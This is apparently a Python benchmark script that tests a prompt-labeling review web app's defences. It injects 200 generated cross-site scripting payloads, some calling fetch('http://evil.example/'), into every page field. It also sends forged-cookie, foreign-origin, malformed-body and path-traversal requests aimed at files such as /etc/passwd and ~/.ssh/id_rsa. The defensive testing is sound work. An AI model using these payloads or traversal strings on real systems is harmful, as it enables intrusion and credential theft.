"""Hostile text in every field of the review page, and requests that must be refused.

Usage: scripts/bench page_attacks

200 payloads, each as a trace's id, input, output, role, message, category, metadata key and value, as a label, in the
guidelines, as a reviewer's name, as a rule's name, its rationale and the reason. Headless Chromium shows every one,
before and after a decision and on the page of conflicts. Then foreign hosts and origins, missing and wrong tokens,
forged cookies, climbing paths and malformed bodies.
"""

from __future__ import annotations

import json
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from itertools import product
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
from app_server import served_here, wait_until
from review_site import browser, print_table, write_project

from promptlabel.pipeline.workspace import Workspace
from promptlabel.records import Message, Pick, RegisteredRule, ReviewEvent, Trace, Vote, digest
from promptlabel.rules.loading import Task
from promptlabel.rules.spec import TaskSpec
from promptlabel.settings import Project, Review
from promptlabel.store.contract import PosteriorTable, Store
from promptlabel.store.opening import open_store
from promptlabel.web.review import review_app
from promptlabel.web.sessions import clean_name

ACTS = (
    "window.PWN=1",
    "parent.PWN=1",
    "fetch('http://evil.example/')",
    "document.title='PWN'",
    "localStorage.PWN=1",
)
CARRIERS = (
    "<script>{}</script>", "</script><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script type=module>{}</script>",
    "<img src=x onerror={}>", '"><img src=x onerror={}>', "<img/src=x/onerror={}>", "<svg onload={}>",
    "<svg/onload={}//", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<marquee onstart={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=\"javascript:{}\">",
    '<a href="javascript:{}" autofocus onfocus={}>x</a>', '<form action="javascript:{}"><button autofocus>x',
    "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">", "<math><mtext><img src=x onerror={}>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<div style=\"background:url(javascript:{})\">", "javascript:{}", "&lt;script&gt;{}&lt;/script&gt;",
    "\u202e<script>{}</script>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>", "${{{}}}",
)  # fmt: skip
PAYLOADS = [carrier.replace("{}", act) for carrier, act in product(CARRIERS, ACTS)]
A_TASK = 25
"""Payloads of one task: as many labels as the page has keys for."""


def hostile(payload: str) -> Trace:
    """A trace that holds the payload wherever text can be."""
    return Trace(
        payload,
        datetime(2026, 3, 2, tzinfo=UTC),
        input=payload,
        output=f"{payload} out",
        messages=(Message(payload, f"{payload} said"),),
        category=payload,
        metadata={payload: payload},
    )


def make_tasks(store: Store) -> tuple[Task, ...]:
    """Tasks that hold all payloads in their names, labels and guidelines, with hostile rules and reasons."""
    store.add_traces(map(hostile, PAYLOADS))
    return tuple(
        _make_task(store, PAYLOADS[start : start + A_TASK]) for start in range(0, len(PAYLOADS), A_TASK)
    )


def _make_task(store: Store, payloads: Sequence[str]) -> Task:
    name = f"t {payloads[0]}".replace("/", "-")
    rules = [
        RegisteredRule(name, payload, "prompt", payload, digest([name, payload]), digest(payload))
        for payload in payloads
    ]
    store.register_rules(name, rules)
    store.add_votes([_vote(rule, payload) for rule in rules[:5] for payload in payloads])
    probs = [[1 / len(payloads)] * len(payloads)] * len(payloads)
    import numpy as np

    ids = tuple(payloads)
    store.save_posteriors(PosteriorTable(name, ids, ids, np.array(probs), datetime.now(UTC), "em", {}))
    store.save_queue(
        name, [Pick(payload, name, "uncertain", 0.5, 0.25, f"why {payload}") for payload in payloads]
    )
    labels = {payload: payload for payload in payloads}
    return Task(TaskSpec(task=name, labels=labels, guidelines="\n".join(payloads)), (), ())


def _vote(rule: RegisteredRule, payload: str) -> Vote:
    key = digest([rule.rule_hash, payload])
    return Vote(
        key, payload, rule.task, rule.rule_hash, rule.model_hash, "vote", payload, 0.9, rationale=payload
    )


@dataclass
class Watch:
    """What hostile text did in the browser."""

    home: str
    shown: int = 0
    ran: list[str] = field(default_factory=list)
    called: set[str] = field(default_factory=set)

    def over(self, page: Any) -> None:
        page.on("dialog", lambda dialog: self.ran.append(f"dialog {dialog.message}"))
        page.on("pageerror", lambda error: self.ran.append(f"error {error}"))
        page.on("request", lambda request: self.called.add(request.url.split("/")[2]))

    def look(self, page: Any) -> None:
        self.shown += 1
        if page.evaluate("window.PWN || localStorage.PWN || document.title === 'PWN'"):
            self.ran.append(f"a payload ran on {page.url}")


def attack_browser(root: Path) -> None:
    """Nothing; every payload has been shown in every place, and what it did is printed."""
    project = write_project(root, {})
    with open_store(project) as store:
        tasks = make_tasks(store)
        app = review_app(store, tasks, reviewer=PAYLOADS[0], review=Review(reviewers=2))
        with served_here(app) as invitation, browser() as chromium:
            watch = Watch(invitation.split("/")[2])
            page = chromium.new_page()
            watch.over(page)
            page.goto(invitation)
            for task in tasks:
                review_all(page, task, invitation, watch)
            names = [join_as(chromium, payload, invitation, watch) for payload in PAYLOADS]
            settle_all(store, page, tasks, invitation, watch)
            stored = sum(len(store.reviews(task.name)) for task in tasks)
    print_table(
        f"{len(PAYLOADS)} payloads in every field",
        [
            ("views looked at", f"{watch.shown:,}"),
            ("decisions stored", stored),
            ("names taken as text / refused", names.count(True), names.count(False)),
            ("payloads that ran, dialogs, errors", len(watch.ran), *watch.ran[:3]),
            ("hosts called other than the page's", len(watch.called - {watch.home, ""})),
        ],
    )


def review_all(page: Any, task: Task, invitation: str, watch: Watch) -> None:
    """Nothing; all traces of the task are shown, decided and revealed."""
    base = invitation.partition("/join/")[0]
    page.goto(f"{base}/tasks/{quote(task.name, safe='')}")
    for turn in range(len(task.labels)):
        page.wait_for_selector(".turns li")
        page.wait_for_selector(".label:not([disabled])")
        watch.look(page)
        page.click(f".label >> nth={turn}")
        page.wait_for_selector("#reveal:not([hidden])")
    wait_until(lambda: page.evaluate("Object.keys(localStorage).length") == 0, 60)
    watch.look(page)


def join_as(chromium: Any, payload: str, invitation: str, watch: Watch) -> bool:
    """Whether the payload can be a name; where it can, its page has been looked at."""
    context = chromium.new_context()
    base, _, token = invitation.partition("/join/")
    answer = context.request.post(f"{base}/join", data={"name": payload, "token": token})
    if answer.ok:
        page = context.new_page()
        watch.over(page)
        page.goto(base)
        page.wait_for_selector("#counts")
        watch.look(page)
    context.close()
    assert answer.ok == (clean_name(payload) is not None), payload
    return bool(answer.ok)


def settle_all(store: Store, page: Any, tasks: Sequence[Task], invitation: str, watch: Watch) -> None:
    """Nothing; each trace is in conflict by somebody with a hostile name, and the page of conflicts shows it."""
    for task in tasks:
        labels = list(task.labels)
        for number, trace_id in enumerate(labels):
            other = labels[(number + 1) % len(labels)]
            store.add_review(
                ReviewEvent(
                    f"c {trace_id}", trace_id, task.name, f"{trace_id} 2", "label", datetime.now(UTC), other
                )
            )
    app = review_app(store, tasks, reviewer="anna", review=Review(reviewers=2))
    with served_here(app) as address:
        watch.called.discard(address.split("/")[2])
        watch.home = address.split("/")[2]
        page.goto(address)
        for task in tasks:
            page.goto(f"{address.partition('/join/')[0]}/tasks/{quote(task.name, safe='')}/conflicts")
            for _ in task.labels:
                page.wait_for_selector("#opinions li")
                watch.look(page)
                page.keyboard.press("1")
            wait_until(lambda: page.evaluate("Object.keys(localStorage).length") == 0, 60)
        watch.called.discard(invitation.split("/")[2])


# --- requests


def refusals(  # noqa: C901 - a list of attacks
    base: str, token: str, cookie: str
) -> Iterator[tuple[str, httpx.Response]]:
    """What the server says to each kind of request that it must not serve."""
    json_type = {"content-type": "application/json"}
    act = {"events": [{"event_id": "forged", "action": "label", "trace_id": "chat-0000000", "label": "good"}]}
    events = f"{base}/api/tasks/quality/events"
    host = base.removeprefix("http://")
    with httpx.Client() as client:
        for name in (
            "evil.example",
            "127.0.0.1.evil.example",
            "localhost.evil",
            "",
            "[::1",
            "127.0.0.1@evil.example",
        ):
            yield "foreign host", client.get(base, headers={"host": name, "cookie": cookie})
        for origin in (
            "http://evil.example",
            "null",
            f"https://{host}",
            "http://127.0.0.1:1",
            f"http://{host}.evil.example",
            "file://",
        ):
            headers = {**json_type, "origin": origin, "cookie": cookie}
            yield "foreign origin", client.post(events, json=act, headers=headers)
        for site in ("cross-site", "same-site", "none"):
            headers = {**json_type, "sec-fetch-site": site, "cookie": cookie}
            yield "foreign origin", client.post(events, json=act, headers=headers)
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "text/html"):
            yield (
                "a form's content type",
                client.post(
                    events, content=json.dumps(act), headers={"content-type": kind, "cookie": cookie}
                ),
            )
        for path in (
            "/",
            "/tasks/quality",
            "/tasks/quality/conflicts",
            "/join/guess",
            f"/join/{token}x",
        ):
            yield "no token", client.get(base + path)
        for path in (
            "/api/tasks/quality/next",
            "/api/tasks/quality/events",
            "/api/tasks/quality/disputed",
            "/invite",
            "/join",
        ):
            yield "no token", client.post(base + path, json={"name": "mallory"})
        value = cookie.partition("=")[2]
        for forged in (
            value[:-1],
            value[:-1] + ("0" if value[-1] != "0" else "1"),
            "",
            "x.y",
            value.partition(".")[0] + ".",
            "bWFpbnRhaW5lciBhbm5h." + value.partition(".")[2],
        ):
            yield (
                "forged cookie",
                client.post(events, json=act, headers={"cookie": f"{cookie.partition('=')[0]}={forged}"}),
            )
        for climb in (
            "../review.py",
            "%2e%2e/review.py",
            "..%2freview.py",
            "....//review.py",
            "%252e%252e/review.py",
            "..\\review.py",
            "/etc/passwd",
            "%00",
            "~/.ssh/id_rsa",
            ".promptlabel/store.duckdb",
        ):
            yield "traversal", client.get(f"{base}/static/{climb}", headers={"cookie": cookie})
        for body in (
            b"",
            b"[]",
            b"{",
            b'{"events": []}',
            b"\xff\xfe",
            b" " * 1_000_001,
            b'{"events": [{"event_id": "1", "action": "told"}]}',
            b'{"events": [{"event_id": "1", "action": "skip", "blind": true}]}',
        ):
            yield "malformed body", client.post(events, content=body, headers={**json_type, "cookie": cookie})


def attack_server(root: Path) -> None:
    """Nothing; what was refused and how is printed."""
    project: Project = write_project(root, {"quality": ("good", "bad")})
    with open_store(project) as store:
        store.add_traces([Trace("chat-0000000", input="hello")])
        store.save_queue("quality", [Pick("chat-0000000", "quality", "audit", 0.5, 0.5, "why")])
        task = Task(TaskSpec(task="quality", labels={"good": "", "bad": ""}), (), ())
        app = review_app(store, Workspace(project, store, (task,)).tasks)
        with served_here(app) as invitation:
            base, _, token = invitation.partition("/join/")
            signed = httpx.get(invitation)
            cookie = signed.headers["set-cookie"].partition(";")[0]
            found: dict[str, list[int]] = {}
            for kind, answer in refusals(base, token, cookie):
                found.setdefault(kind, []).append(answer.status_code)
            stored = len(store.reviews("quality"))
    rows = [
        (kind, f"{len(codes)} sent, {sum(400 <= code < 500 for code in codes)} refused", sorted(set(codes)))
        for kind, codes in found.items()
    ]
    print_table(
        "Requests that must be refused",
        [
            *rows,
            ("decisions stored by them", stored),
            ("cookie", *signed.headers["set-cookie"].split("; ")[1:]),
        ],
    )


def main() -> None:
    with tempfile.TemporaryDirectory() as folder:
        attack_browser(Path(folder) / "hostile")
        attack_server(Path(folder) / "server")


if __name__ == "__main__":
    main()
